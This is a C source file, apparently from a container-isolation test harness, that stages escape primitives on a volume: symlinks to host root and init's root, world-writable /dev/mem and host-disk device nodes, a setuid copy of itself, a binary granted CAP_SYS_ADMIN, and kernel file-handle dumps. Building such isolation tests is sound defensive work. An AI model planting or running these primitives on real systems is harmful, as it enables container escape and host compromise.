/* What root of the host leaves on a volume for attackers to use, and what it tells them. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

static int copy_self(const char *file, mode_t mode) {
    struct stat program;
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int to = open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (from < 0 || to < 0 || fstat(from, &program) != 0) {
        return -1;
    }
    for (off_t at = 0; at < program.st_size;) {
        if (sendfile(to, from, &at, (size_t)(program.st_size - at)) <= 0) {
            return -1;
        }
    }
    int result = fchmod(to, mode);
    close(to);
    return result;
}

/* CAP_SYS_ADMIN, permitted and effective. */
static int give_capabilities(const char *file) {
    struct vfs_cap_data given;
    memset(&given, 0, sizeof given);
    given.magic_etc = VFS_CAP_REVISION_2 | VFS_CAP_FLAGS_EFFECTIVE;
    given.data[0].permitted = 1U << CAP_SYS_ADMIN;
    return setxattr(file, "security.capability", &given, sizeof given, 0);
}

int prepare(const char *directory) {
    struct stat root;
    umask(0);
    if (chdir(directory) != 0 || stat("/", &root) != 0 || symlink(known("CANARY"), "to-canary") != 0 ||
        symlink("/", "to-root") != 0 || symlink("/proc/1/root", "to-init") != 0 ||
        symlink("../../../../../../../../../../../../../..", "up") != 0 ||
        mknod("node-null", S_IFCHR | 0666, makedev(1, 3)) != 0 ||
        mknod("node-mem", S_IFCHR | 0666, makedev(1, 1)) != 0 ||
        mknod("node-disk", S_IFBLK | 0666, root.st_dev) != 0 || copy_self("attack", 0755) != 0 ||
        copy_self("set-user-id", 06755) != 0 || copy_self("file-capabilities", 0755) != 0 ||
        give_capabilities("file-capabilities") != 0) {
        perror(directory);
        return BROKEN;
    }
    printf("%llu\n", (unsigned long long)root.st_dev);
    return 0;
}

int print_handle(const char *file) {
    int mount;
    struct file_handle *handle = calloc(1, sizeof *handle + 128);
    handle->handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, file, handle, &mount, 0) != 0) {
        perror(file);
        return BROKEN;
    }
    printf("%u:", (unsigned)handle->handle_type);
    for (unsigned i = 0; i < handle->handle_bytes; i++) {
        printf("%02x", handle->f_handle[i]);
    }
    printf("\n");
    return 0;
}
